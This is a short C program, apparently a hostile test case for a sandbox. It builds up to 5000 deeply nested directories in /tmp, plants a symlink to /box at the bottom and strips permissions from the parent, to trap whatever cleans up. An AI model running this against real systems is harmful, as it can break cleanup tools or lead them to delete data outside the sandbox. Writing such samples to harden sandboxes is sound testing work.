#include "attack.h"
#include <limits.h>

int main(void)
{
	/* Deeper than any path can name, to be found by whoever cleans up. */
	int depth = 0;
	if (chdir("/tmp") != 0)
		return 1;
	while (depth < 5000 && mkdir("a-folder-with-a-rather-long-name-so-that-paths-end-early", 0) == 0 &&
	       chmod("a-folder-with-a-rather-long-name-so-that-paths-end-early", 0700) == 0 &&
	       chdir("a-folder-with-a-rather-long-name-so-that-paths-end-early") == 0)
		depth++;
	symlink("/box", "link");
	chmod("..", 0);
	fprintf(stderr, "REFUSED to stay: %d folders\n", depth);
}
